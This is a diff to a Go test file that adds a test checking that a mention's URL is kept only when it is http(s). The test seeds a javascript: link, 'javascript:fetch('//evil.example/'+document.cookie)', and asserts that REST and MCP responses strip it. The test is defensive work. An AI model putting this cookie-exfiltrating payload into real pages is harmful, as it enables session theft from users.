@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"earshot/store"
 )
 
 // Issue 25 M7: a NUL (U+0000) in a filter, a name, a path id or a login is
@@ -60,5 +62,28 @@ func TestUpdateMentionNeedsStatusOrVisibility(t *testing.T) {
 	}
 	if got := e.do("PATCH", "/api/v1/mentions/"+m.ID, e.keyA, map[string]any{"status": "done"}).ok().data(); got["status"] != "done" {
 		t.Errorf("status alone: %v", got)
+	}
+}
+
+// Issue 25: only an http(s) url is a mention's url. A post whose link is
+// javascript: is stored without one, so REST and MCP (and webhooks, which
+// send the stored mention) never hand it to whoever renders it.
+func TestMentionURLIsWebOnly(t *testing.T) {
+	e := newEnv(t)
+	ms := e.seedMentions(e.projA, nil, 2, time.Now(), func(i int, m *store.NewMention) {
+		if i == 1 {
+			m.URL = "javascript:fetch('//evil.example/'+document.cookie)"
+		}
+	})
+	got := e.do("GET", "/api/v1/mentions/"+ms[1].ID, e.keyA, nil).ok().data()
+	if got["url"] != "" {
+		t.Errorf("REST url of a javascript: link: %v", got["url"])
+	}
+	if got := e.do("GET", "/api/v1/mentions/"+ms[0].ID, e.keyA, nil).ok().data(); !strings.HasPrefix(got["url"].(string), "https://") {
+		t.Errorf("an https url: %v", got["url"])
+	}
+	_, raw := mcpRaw(t, e, e.keyA, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_mention","arguments":{"id":"`+ms[1].ID+`"}}}`)
+	if strings.Contains(raw, "javascript") || !strings.Contains(raw, ms[1].ID) {
+		t.Errorf("MCP get_mention: %s", raw)
 	}
 }
